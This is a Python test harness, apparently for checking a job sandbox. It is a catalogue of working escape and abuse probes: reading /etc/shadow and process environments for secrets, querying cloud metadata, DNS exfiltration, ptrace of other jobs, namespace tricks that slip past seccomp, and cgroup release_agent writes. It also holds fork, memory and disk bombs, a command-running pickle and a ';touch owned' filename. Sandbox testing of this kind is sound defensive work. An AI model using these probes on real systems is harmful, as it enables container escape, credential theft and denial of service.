"""What hostile jobs try: run as ``python3 programs.py NAME…``, standard library only.

Each attack returns what it got, as text, or None. It prints a line of JSON each. The same file runs
in a sandbox, in an image, and, as the control of each attack, as a process without any guard. What
there is to get is told in ``STUDIUM_TARGETS``; secrets themselves are not.
"""

import ctypes
import errno
import fcntl
import glob
import hashlib
import json
import mmap
import os
import platform
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import termios
import threading
import time
from contextlib import suppress

TARGETS = json.loads(os.environ.get("STUDIUM_TARGETS", "{}"))
MARK = TARGETS.get("mark", "none")
INPUT = os.environ.get("STUDIUM_INPUT", "/input")
OUTPUT = os.environ.get("STUDIUM_OUTPUT", "/output")
CODE = TARGETS.get("code", "/code")
SCRATCH = TARGETS.get("scratch", "/tmp")
ROWS = f"{INPUT}/rows"
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
_ARM = platform.machine() == "aarch64"
NUMBERS = {  # x86-64, arm64
    "bpf": (321, 280), "perf_event_open": (298, 241), "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425), "add_key": (248, 217), "request_key": (249, 218),
    "keyctl": (250, 219), "pivot_root": (155, 41), "fsopen": (430, 430), "clone3": (435, 435),
    "open_tree": (428, 428), "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265),
    "kexec_load": (246, 104), "delete_module": (176, 106), "memfd_create": (319, 279),
}  # fmt: skip


def syscall(name, *arguments):
    """A system call by its number; OSError if it fails."""
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return _check(libc.syscall(ctypes.c_long(NUMBERS[name][_ARM]), *given))


def _check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _read(path, size=4096):
    with open(path, "rb") as file:
        return file.read(size).decode("utf-8", "replace")


def _secret(path):
    """What stands behind the secret's name in a file; None if it is not there."""
    text = _read(path, 1 << 20)
    return text[text.index("SECRET=") :][:60].split("\0")[0].strip() if "SECRET=" in text else None


# --- the network ---


def dns():
    """Ask a name server, to carry rows out in the name that is asked for."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
        door.settimeout(1)
        question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04rows\x00\x00\x10\x00\x01"
        door.sendto(question, tuple(TARGETS["dns"]))
        return _secret_in(door.recv(512))


def host_service():
    """Connect to a service that listens on the machine's loopback only."""
    return _greeting(socket.AF_INET, tuple(TARGETS["tcp"]))


def metadata():
    """Ask the link-local address where clouds give out credentials."""
    return _greeting(socket.AF_INET, ("169.254.169.254", 80), b"GET /latest HTTP/1.0\r\n\r\n")


def abstract_socket():
    """Connect to a unix socket that has no file, so no mount hides it."""
    return _greeting(socket.AF_UNIX, "\0" + TARGETS["abstract"])


def path_socket():
    """Connect to a unix socket by its path, as that of a container service."""
    return _greeting(socket.AF_UNIX, TARGETS["socket"])


def raw_socket():
    """Open a raw socket."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "a raw socket"


def packet_socket():
    """Listen to everything on the wire."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3):
        return "a packet socket"


def vsock():
    """Reach the hypervisor: these sockets know no network namespaces."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return "a socket to the hypervisor"


def interfaces():
    """Find a way out that is up, or bring one up."""
    found = {line.split(":")[0].strip() for line in _read("/proc/net/dev").splitlines()[2:]}
    return "interfaces " + " ".join(sorted(found - {"lo"})) if found - {"lo"} else None


def _greeting(family, address, say=b""):
    with socket.socket(family, socket.SOCK_STREAM) as door:
        door.settimeout(1)
        door.connect(address)
        if say:
            door.sendall(say)
        return _secret_in(door.recv(512))


def _secret_in(data):
    text = data.decode("utf-8", "replace")
    return text[text.index("SECRET=") :].strip() if "SECRET=" in text else None


# --- files of the machine ---


def shadow():
    """Read the machine's password hashes."""
    return "sha256 " + hashlib.sha256(_read("/etc/shadow", 1 << 20).encode()).hexdigest()


def state_database():
    """Read the state database of the site."""
    return _secret(TARGETS["state"])


def other_input():
    """Read the input of another job."""
    return _secret(TARGETS["other"])


def climb():
    """Go up from every folder that is given, until the machine's root is met."""
    found = {INPUT, OUTPUT, CODE, os.getcwd(), "/tmp"}
    for folder in sorted(found):
        with suppress(OSError):
            handle = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
            for _ in range(20):
                with suppress(OSError):
                    below = os.open(TARGETS["state"].lstrip("/"), os.O_RDONLY, dir_fd=handle)
                    return _secret(f"/proc/self/fd/{below}")
                handle = os.open("..", os.O_RDONLY, dir_fd=handle)
    return None


def unit_folder():
    """Write beside the outputs, where the end of the unit is told."""
    path = f"{OUTPUT}/../exit.json"
    with open(path, "w") as file:
        file.write("forged")
    return "wrote exit.json"


def environment():
    """Look for secrets in the environment of every process that is to be seen."""
    for path in glob.glob("/proc/[0-9]*/environ"):
        with suppress(OSError, ValueError):
            if found := _secret(path):
                return found
    return None


def process_roots():
    """Read through the root of every process that is to be seen."""
    for folder in glob.glob("/proc/[0-9]*/"):
        for way in ("root", "cwd"):
            with suppress(OSError):
                up = "" if way == "root" else "/.." * 20
                if found := _secret(f"{folder}{way}{up}{TARGETS['state']}"):
                    return found
    return None


def inherited_files():
    """Use every file that the worker has left open."""
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            with suppress(OSError):
                if stat.S_ISDIR(os.fstat(int(name)).st_mode):
                    handle = os.open("secret", os.O_RDONLY, dir_fd=int(name))
                    return _secret(f"/proc/self/fd/{handle}")
    return None


def by_handle():
    """Open files by their inode numbers, which asks no folder."""
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0)
    buffer = ctypes.create_string_buffer(handle, 64)
    where = os.open(OUTPUT, os.O_RDONLY)
    try:
        found = syscall("open_by_handle_at", where, buffer, os.O_RDONLY)
    except OSError as error:
        if error.errno != errno.ESTALE:  # asked, and only the number was wrong
            raise
        return "the call is allowed"
    return f"the root of the disk: {len(os.listdir(found))} entries"


def watch_files():
    """Watch the machine's files change."""
    watcher = libc.inotify_init()
    for path in (TARGETS["state"], "/etc/shadow"):
        with suppress(OSError):
            _check(libc.inotify_add_watch(watcher, path.encode(), 2))
            if path == TARGETS["state"]:
                return "watches the state"
    return None


# --- what is given read-only ---


def write_input():
    """Change an input by every way there is."""
    ways = (
        lambda: _append(ROWS),
        lambda: (os.chmod(ROWS, 0o666), _append(ROWS)),
        lambda: (os.chown(ROWS, os.getuid(), -1), _append(ROWS)),
        lambda: os.truncate(ROWS, 0),
        lambda: os.utime(ROWS, (1, 1)),
        lambda: _append(f"/proc/self/fd/{os.open(ROWS, os.O_RDONLY)}"),
        lambda: os.setxattr(ROWS, "user.mark", b"1"),
        lambda: os.unlink(ROWS),
        lambda: os.rename(INPUT, f"{INPUT}-moved"),
    )
    return _first(ways, "an input was changed")


def write_code():
    """Change the submitted code, which a later unit runs."""
    return _first((lambda: _append(f"{CODE}/programs.py"),), "the code was changed")


def link_input():
    """Give an input a second name in the outputs."""
    os.link(ROWS, f"{OUTPUT}/linked")
    os.unlink(f"{OUTPUT}/linked")
    return "a hard link to an input"


def remount():
    """Make what is read-only writable again."""
    remounts = 0x20 | 0x1000
    for path in ("/", INPUT, ROWS, CODE, "/usr", "/proc/sys"):
        if libc.mount(b"none", path.encode(), None, remounts, None) == 0:
            return f"remounted {path}"
    return None


def _append(path):
    with open(path, "a") as file:
        file.write("\n")


def _first(ways, got):
    for way in ways:
        with suppress(OSError):
            way()
            return got
    return None


# --- the kernel ---


def mount_proc():
    """Mount file systems of one's own."""
    place = f"{SCRATCH}/mine"
    os.makedirs(place, exist_ok=True)
    for kind in (b"tmpfs", b"proc", b"sysfs", b"cgroup", b"cgroup2", b"overlay"):
        if libc.mount(b"none", place.encode(), kind, 0, None) == 0:
            return f"mounted {kind.decode()}"
    return "fsopen" if syscall("fsopen", ctypes.c_char_p(b"tmpfs"), 0) >= 0 else None


def user_namespace():
    """Become root in a user namespace, where the kernel has more to attack."""
    _check(libc.unshare(0x10000000))
    return "a user namespace"


def user_namespace_clone():
    """The same by clone3, whose flags are in memory that no filter reads."""
    flags = struct.pack("11Q", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    buffer = ctypes.create_string_buffer(flags, 88)
    if syscall("clone3", buffer, 88) == 0:
        os._exit(0)
    return "a user namespace"


def other_namespaces():
    """Enter a namespace of one's own: mounts, network, processes."""
    for flag in (0x20000, 0x40000000, 0x20000000, 0x08000000, 0x04000000):
        if libc.unshare(flag) == 0:
            return f"a namespace ({flag:#x})"
    return None


def other_architecture():
    """Ask for a namespace as a 32-bit program, past a filter that knows one table of calls."""
    if _ARM:
        return None
    code = bytes.fromhex("53 89f8 89f3 cd80 5b c3")  # eax and ebx from the arguments, int 0x80
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)
    if call(310, 0x10000000) == 0:  # unshare
        return "a user namespace, by a 32-bit call"
    return None


def change_root():
    """Leave the root folder by chroot and pivot_root."""
    folder = os.open("/", os.O_RDONLY)
    os.makedirs(f"{SCRATCH}/jail", exist_ok=True)
    os.chroot(f"{SCRATCH}/jail")
    os.fchdir(folder)
    return "chroot"


def keyrings():
    """Read a key of the machine's, or leave one for the next job."""
    for ring in (-3, -4, -5):  # of the session, of the user
        with suppress(OSError):
            name = ctypes.c_char_p(f"key-{MARK}".encode())
            found = syscall("keyctl", 10, ring, ctypes.c_char_p(b"user"), name, 0)
            buffer = ctypes.create_string_buffer(200)
            syscall("keyctl", 11, found, buffer, 200)
            return buffer.value.decode()
    key = (ctypes.c_char_p(b"user"), ctypes.c_char_p(b"left"), ctypes.c_char_p(b"rows"), 4)
    syscall("add_key", *key, -4)
    return "left a key for others"


def bpf():
    """Load programs into the kernel."""
    about = struct.pack("IIII", 2, 4, 4, 1)  # an array of one number
    syscall("bpf", 0, ctypes.create_string_buffer(about, 76), 76)
    return "a map of bpf"


def perf():
    """Watch all processors by performance counters."""
    about = struct.pack("IIQ", 1, 112, 0)  # a software clock
    syscall("perf_event_open", ctypes.create_string_buffer(about, 112), -1, 0, -1, 0)
    return "a counter of processor 0"


def userfaultfd():
    """Stop the kernel in the middle of a copy, as many exploits need."""
    syscall("userfaultfd", 0)
    return "userfaultfd"


def io_uring():
    """Have the kernel do calls that a filter does not see."""
    syscall("io_uring_setup", 4, ctypes.create_string_buffer(120))
    return "io_uring"


def kernel_log():
    """Read the kernel's log, with addresses in it."""
    if libc.klogctl(3, ctypes.create_string_buffer(4096), 4096) > 0:
        return "the kernel's log"
    with open("/dev/kmsg", "rb"):
        return "/dev/kmsg"


def kernel_memory():
    """Open the memory of the machine, or learn where the kernel is in it."""
    for path in ("/dev/mem", "/dev/port", "/proc/kcore"):
        with suppress(OSError), open(path, "rb"):
            return path
    with open("/proc/kallsyms") as file:
        return "addresses of the kernel" if int(file.readline().split()[0], 16) else None


def sysctl():
    """Write to the kernel's settings (what stands there already)."""
    for name in ("kernel/core_pattern", "vm/overcommit_memory", "kernel/randomize_va_space"):
        with suppress(OSError):
            path = f"/proc/sys/{name}"
            text = _read(path)
            with open(path, "w") as file:
                file.write(text)
            return f"wrote {name}"
    return None


def control_groups():
    """Find a limit or a release_agent that can be written."""
    for top in ("/sys/fs/cgroup", "/sys/kernel"):
        for folder, _, names in os.walk(top):
            for name in {"release_agent", "cgroup.procs", "memory.max", "uevent_helper"} & {*names}:
                with suppress(OSError), open(f"{folder}/{name}", "r+"):
                    return f"{folder}/{name}"
    return None


def devices():
    """Make the machine's disk a file of one's own."""
    for folder in (OUTPUT, "/tmp", "/dev/shm", "/dev"):
        with suppress(OSError):
            path = f"{folder}/disk-{MARK}"
            os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(*TARGETS["disk"]))
            os.unlink(path)
            return f"a node of the disk in {folder}"
    return None


def device_files():
    """Open devices that are there already."""
    # Not all that there are: a watchdog that is opened and closed restarts the machine.
    names = ("kmsg", "fuse", "kvm", "net/tun", "loop-control", "vda", "sda", "nvme0n1", "vsock")
    for name in (*names, "vhost-vsock", "userfaultfd", "hwrng", "dri/card0", "snapshot"):
        with suppress(OSError):
            os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK))
            return f"/dev/{name}"
    return None


def set_user():
    """Become root by a program that is set to its owner."""
    ids = set(os.getresuid())
    if 0 in ids:  # the control is root already
        os.setresuid(65534, 65534, 65534)
    said = subprocess.run([f"{INPUT}/setuid", "-u"], capture_output=True, check=False).stdout
    return "root by set-user-id" if said.strip() == b"0" else None


def become_root():
    """Ask to be root."""
    os.setresuid(1, 1, 0)
    os.setresuid(0, 0, 0)
    return "root"


def capabilities():
    """Use rights that root has."""
    status = dict(line.split(":", 1) for line in _read("/proc/self/status").splitlines())
    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        if int(status[name], 16):
            return f"{name} {status[name].strip()}"
    return None


def raise_limits():
    """Raise limits of processes above what was given."""
    for kind in (resource.RLIMIT_CORE, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
        _, hard = resource.getrlimit(kind)
        if hard == resource.RLIM_INFINITY:
            return f"limit {kind} is endless"
        with suppress(ValueError, OSError):
            resource.setrlimit(kind, (hard + 1, hard + 1))
            return f"limit {kind} was raised"
    return None


def priority():
    """Take the processors before everybody else."""
    os.setpriority(os.PRIO_PROCESS, 0, -10)
    return "priority -10"


# --- other processes ---


def neighbours():
    """Find a process of another job, by its command line."""
    return "sees a neighbour" if _neighbour() else None


def signal_neighbour():
    """Send a signal to a process of another job, by its number on the machine."""
    os.kill(TARGETS["neighbour"], 0)
    found = _read(f"/proc/{TARGETS['neighbour']}/cmdline")
    return "may signal a neighbour" if MARK in found else None


def trace_neighbour():
    """Attach to a process of another job and read its memory."""
    pid = _neighbour() or TARGETS["neighbour"]
    if MARK not in _read(f"/proc/{pid}/cmdline"):
        return None
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    _check(libc.ptrace(16, pid, None, None))
    os.waitpid(pid, 0x40000000)
    libc.ptrace(17, pid, None, None)
    return "traces a neighbour"


def neighbour_memory():
    """Read the memory of another job's process without stopping it."""
    pid = _neighbour() or TARGETS["neighbour"]
    if MARK not in _read(f"/proc/{pid}/cmdline"):
        return None
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(int(maps.readline().split("-")[0], 16))
        return f"{len(memory.read(64))} bytes of a neighbour"


def shared_memory():
    """Attach to shared memory and queues of other jobs (System V, which has no files)."""
    found = libc.shmget(TARGETS["shm"], 0, 0)
    _check(found)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(found, None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        return None
    return ctypes.string_at(address, 60).split(b"\0")[0].decode()


def terminal():
    """Type into the operator's terminal."""
    with open("/dev/tty", "r+b", buffering=0) as file:
        with suppress(OSError):
            fcntl.ioctl(file, termios.TIOCSTI, b"#")
            return "typed into a terminal"
        file.write(b"\x1b[0m")
        return "wrote to a terminal"


def standard_input():
    """Read what the worker reads, or write to where it reads from."""
    if os.isatty(0) or stat.S_ISSOCK(os.fstat(0).st_mode):
        return "a terminal or a socket is standard input"
    return None


def _neighbour():
    for folder in glob.glob("/proc/[0-9]*"):
        with suppress(OSError, ValueError):
            pid = int(folder[6:])
            if pid != os.getpid() and f"neighbour-{MARK}" in _read(f"{folder}/cmdline"):
                return pid
    return None


PROBES = (
    dns, host_service, metadata, abstract_socket, path_socket, raw_socket, packet_socket, vsock,
    interfaces, shadow, state_database, other_input, climb, unit_folder, environment,
    process_roots, inherited_files, by_handle, watch_files, write_input, write_code, link_input,
    remount, mount_proc, user_namespace, user_namespace_clone, other_namespaces,
    other_architecture, change_root, keyrings, bpf, perf, userfaultfd, io_uring, kernel_log,
    kernel_memory, sysctl, control_groups, devices, device_files,
    set_user, become_root, capabilities, raise_limits, priority, neighbours, signal_neighbour,
    trace_neighbour, neighbour_memory, shared_memory, terminal, standard_input,
)  # fmt: skip
"""Attacks that do no harm where they succeed; each runs in a process of its own."""


DEPENDS_ON_KERNEL = {
    "vsock", "io_uring", "userfaultfd", "bpf", "perf", "keyrings", "other_architecture",
}  # fmt: skip
"""Where a kernel has no such thing there is nothing to attack."""


# --- bombs: each is bounded by itself, so that its control does no harm ---


def fork_bomb():
    """Start processes until no more can be had, 150 at most."""
    sleepers = 0
    with suppress(OSError):
        while sleepers < 150:
            if os.fork() == 0:
                signal.pause()
                os._exit(0)
            sleepers += 1
    print(json.dumps({"got": sleepers}), flush=True)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.killpg(os.getpgid(0), signal.SIGTERM)
    with suppress(OSError):
        while True:
            os.wait()


def thread_bomb():
    """Start threads until no more can be had, 150 at most."""
    started, done = 0, threading.Event()
    threading.stack_size(1 << 16)
    with suppress(RuntimeError):
        while started < 150:
            threading.Thread(target=done.wait, daemon=True).start()
            started += 1
    print(json.dumps({"got": started}), flush=True)
    os._exit(0)


def memory_bomb():
    """Use 256 MiB."""
    taken = []
    for number in range(1, 65):
        taken.append(bytearray(os.urandom(4096)) * 1024)
        print(json.dumps({"got": number << 22}), flush=True)


def hidden_memory_bomb():
    """Use 256 MiB that no process has: files in memory."""
    handle = syscall("memfd_create", ctypes.c_char_p(b"mine"), 0)
    for number in range(1, 65):
        os.write(handle, b"x" * (1 << 22))
        print(json.dumps({"got": number << 22}), flush=True)


def fill_outputs():
    """Write 128 MiB to the outputs, in files that are small."""
    for number in range(1, 33):
        with open(f"{OUTPUT}/{number}", "wb") as file:
            file.write(b"x" * (1 << 22))
        print(json.dumps({"got": number << 22}), flush=True)
        time.sleep(0.03)


def fill_nameless():
    """Write 128 MiB to files of the outputs that have no name any more."""
    held = []
    for number in range(1, 33):
        held.append(os.open(f"{OUTPUT}/nameless", os.O_RDWR | os.O_CREAT | os.O_EXCL))
        os.unlink(f"{OUTPUT}/nameless")
        os.write(held[-1], b"x" * (1 << 22))
        print(json.dumps({"got": number << 22}), flush=True)
        time.sleep(0.03)


def fill_mapped():
    """The same with files that are mapped into memory and closed."""
    held = []
    for number in range(1, 33):
        file = os.open(f"{OUTPUT}/mapped", os.O_RDWR | os.O_CREAT | os.O_EXCL)
        os.unlink(f"{OUTPUT}/mapped")
        os.write(file, b"x" * (1 << 22))
        held.append(libc.mmap(None, 4096, 1, 1, file, 0))
        os.close(file)
        print(json.dumps({"got": number << 22}), flush=True)
        time.sleep(0.03)


def fill_deep():
    """Write 128 MiB below folders whose path is longer than any call takes."""
    os.chdir(OUTPUT)
    for _ in range(40):
        os.mkdir("x" * 250)
        os.chdir("x" * 250)
    for number in range(1, 33):
        _write(str(number), "x" * (1 << 22))
        print(json.dumps({"got": number << 22}), flush=True)
        time.sleep(0.03)


def fill_in_grace():
    """Write 128 MiB once the time is over, while the end is waited for."""

    def late(*_):
        for number in range(1, 33):
            _write(f"{OUTPUT}/{number}", "x" * (1 << 22))
            print(json.dumps({"got": number << 22}), flush=True)
            time.sleep(0.03)

    signal.signal(signal.SIGTERM, late)
    if TARGETS.get("alone"):
        os.kill(os.getpid(), signal.SIGTERM)
    else:
        time.sleep(60)


def sparse_output():
    """Make a file of 1 TB that takes no room."""
    with open(f"{OUTPUT}/sparse", "wb") as file:
        file.truncate(1 << 40)
    print(json.dumps({"got": os.stat(f"{OUTPUT}/sparse").st_size}), flush=True)


def fill_elsewhere():
    """Write 40 MiB to every other folder that can be written."""
    most = 0
    everywhere = ("/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", "/", "/etc", "/dev/mqueue")
    for folder in TARGETS.get("folders", everywhere):
        made, path = 0, f"{folder}/full-{MARK}"
        with suppress(OSError), open(path, "wb", buffering=0) as file:
            while made < 40 << 20:
                made += file.write(b"x" * (1 << 20))
        with suppress(OSError):
            os.unlink(path)
        most = max(most, made)
    print(json.dumps({"got": most}), flush=True)


def many_files():
    """Make 110,000 files."""
    for number in range(110_000):
        os.close(os.open(f"{OUTPUT}/{number}", os.O_CREAT | os.O_WRONLY))
    print(json.dumps({"got": number + 1}), flush=True)


def flood():
    """Write to stdout without an end that anybody would wait for."""
    block = b"x" * (1 << 20)
    for _ in range(int(TARGETS.get("flood", 256))):
        os.write(1, block)
    os.write(2, b"done")


def deaf():
    """Ignore every signal that can be ignored."""
    for number in range(1, 65):
        with suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    print(json.dumps({"got": "deaf"}), flush=True)
    while True:
        time.sleep(60)


def daemon():
    """Leave a process behind that belongs to nobody."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for number in (0, 1, 2):
                os.dup2(null, number)
            os.execv(sys.executable, [sys.executable, "-c", _SLEEP, f"daemon-{MARK}"])
        os._exit(0)
    print(json.dumps({"got": "left"}), flush=True)
    time.sleep(0.2)


def daemon_with_stdout():
    """The same, keeping stdout open so that its reader waits."""
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", _SLEEP, f"daemon-{MARK}"])
    print(json.dumps({"got": "left"}), flush=True)
    time.sleep(0.2)


def freeze():
    """Stop every process that is to be seen, so that nobody ends the unit."""
    print(json.dumps({"got": "frozen"}), flush=True)
    if TARGETS.get("alone"):  # the control stops its parent only
        os.kill(os.getppid(), signal.SIGSTOP)
    else:
        os.kill(os.getppid(), signal.SIGSTOP)
        with suppress(OSError):
            os.kill(-1, signal.SIGSTOP)
    time.sleep(60)


def litter():
    """Leave all kinds of things in the outputs, a folder each."""
    made = {}
    for case in (
        link, folder_link, hard_link, pipe, unix_socket, set_id, closed, extended, shell_name,
        broken_name, backward_name, long_name, pickled, sparse,
    ):  # fmt: skip
        os.makedirs(f"{OUTPUT}/{case.__name__}")
        os.chdir(f"{OUTPUT}/{case.__name__}")
        try:
            case()
            made[case.__name__] = "made"
        except OSError as error:
            made[case.__name__] = f"{type(error).__name__}: {error}"[:200]
    print(json.dumps({"got": made}), flush=True)


METRICS = "metrics.csv"
GOOD = "week,n\n1,50\n2,60\n"


def _write(name, text=GOOD):
    with open(name, "w") as file:
        file.write(text)


def link():
    """A link to a file of the machine, under a declared name"""
    os.symlink(TARGETS["state"], METRICS)


def folder_link():
    """A link to a folder of the machine"""
    os.symlink(os.path.dirname(TARGETS["other"]), "sub")


def hard_link():
    """A second name for an output that must stay"""
    _write("rows.csv", "learner\nAda\n")
    os.link("rows.csv", METRICS)


def pipe():
    """A pipe, for which its reader waits for ever"""
    os.mkfifo(METRICS)


def unix_socket():
    """A socket"""
    with socket.socket(socket.AF_UNIX) as door:
        door.bind(METRICS)


def set_id():
    """A program that is set to its owner, who is soon the worker"""
    _write(METRICS)
    os.chmod(METRICS, 0o4755)


def closed():
    """A file that nobody may read, not even its owner"""
    _write(METRICS)
    os.chmod(METRICS, 0)
    os.chmod(".", 0)


def extended():
    """Rows in the extended attributes of a file"""
    _write(METRICS)
    os.setxattr(METRICS, "user.rows", b"Ada")


def shell_name():
    """A name that is a command"""
    _write(";touch owned")


def broken_name():
    """A name with a line break, to forge a line of a list"""
    _write("a\nmetrics.csv 0 sha256")


def backward_name():
    """A name that is shown as another (right-to-left override)"""
    _write("rows\u202evsc.scirtem")


def long_name():
    """A path of 10,000 characters"""
    for _ in range(40):
        os.mkdir("x" * 250)
        os.chdir("x" * 250)
    _write(METRICS)


def pickled():
    """A pickle, which runs a command in whoever loads it"""
    _write(METRICS, f"cos\nsystem\n(S'touch {TARGETS['leak']}/owned'\ntR.")


def sparse():
    """A file with a long hole, as large as the site allows the job to write"""
    _write(METRICS)
    os.truncate(METRICS, 1 << 22)


_SLEEP = "import time; time.sleep(120)"
BOMBS = (
    fork_bomb, thread_bomb, memory_bomb, hidden_memory_bomb, fill_outputs, fill_nameless,
    fill_mapped, fill_deep, fill_in_grace, sparse_output,
    fill_elsewhere, many_files, flood, deaf, daemon, daemon_with_stdout, freeze,
    litter,
)  # fmt: skip


def _probe(attack):
    """Run one in a process of its own, for 3 seconds at most: what it got, or why not."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reading)
        said = {"attack": attack.__name__, "got": None}
        try:
            said["got"] = attack()
        except BaseException as error:
            said["why"] = f"{type(error).__name__}: {error}"[:200]
        os.write(writing, json.dumps(said).encode())
        os._exit(0)
    os.close(writing)
    signal.signal(signal.SIGALRM, lambda *_: os.kill(pid, signal.SIGKILL))
    signal.alarm(3)
    answer = b""
    while data := os.read(reading, 65536):
        answer += data
    _, status = os.waitpid(pid, 0)
    signal.alarm(0)
    os.close(reading)
    ended = {"attack": attack.__name__, "got": None, "why": f"ended with {status}"}
    return answer.decode() or json.dumps(ended)


def main(names):
    """Run these bombs, or probes; without names all probes."""
    bombs = {one.__name__: one for one in BOMBS}
    if names and names[0] in bombs:
        bombs[names[0]]()
        return
    for attack in PROBES:
        if not names or attack.__name__ in names:
            print(_probe(attack), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
